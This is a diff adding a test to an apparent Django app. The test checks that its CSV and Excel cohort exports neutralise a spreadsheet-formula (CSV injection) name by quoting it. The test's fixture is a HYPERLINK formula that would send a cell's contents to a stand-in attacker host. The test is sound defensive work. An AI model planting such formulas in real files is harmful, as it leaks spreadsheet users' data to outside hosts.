@@ -114,3 +114,26 @@ def test_unknown_export_format_is_404(client, world):
         "curriculum:cohort_export", kwargs={"program": world.program.slug, "format": "pdf"}
     )
     assert client.get(url).status_code == 404
+
+
+def test_exports_quote_a_name_that_is_a_formula(client, world):
+    """OWASP's CSV-injection rule: the name stays text; the numbers stay numbers."""
+    hostile = '=HYPERLINK("http://evil.example/?d="&B2,"Open")'
+    curriculum_for(world)
+    add_fellows(world, 1)
+    fellow = selectors.cohort_fellows(world.program, 2025)[0]
+    fellow.last_name = hostile
+    fellow.save()
+    client.force_login(world.director)
+    url = lambda fmt: reverse(  # noqa: E731
+        "curriculum:cohort_export", kwargs={"program": world.program.slug, "format": fmt}
+    )
+    rows = list(csv.reader(io.StringIO(
+        client.get(url("csv"), {"cohort": 2025}).content.decode("utf-8-sig")
+    )))  # fmt: skip
+    assert rows[1][0].startswith("'" + hostile)
+
+    sheet = load_workbook(io.BytesIO(client.get(url("xlsx"), {"cohort": 2025}).content)).active
+    name, credits = sheet.cell(2, 1), sheet.cell(2, 6)
+    assert name.data_type == "s" and name.value.startswith("'" + hostile)
+    assert credits.data_type == "n"
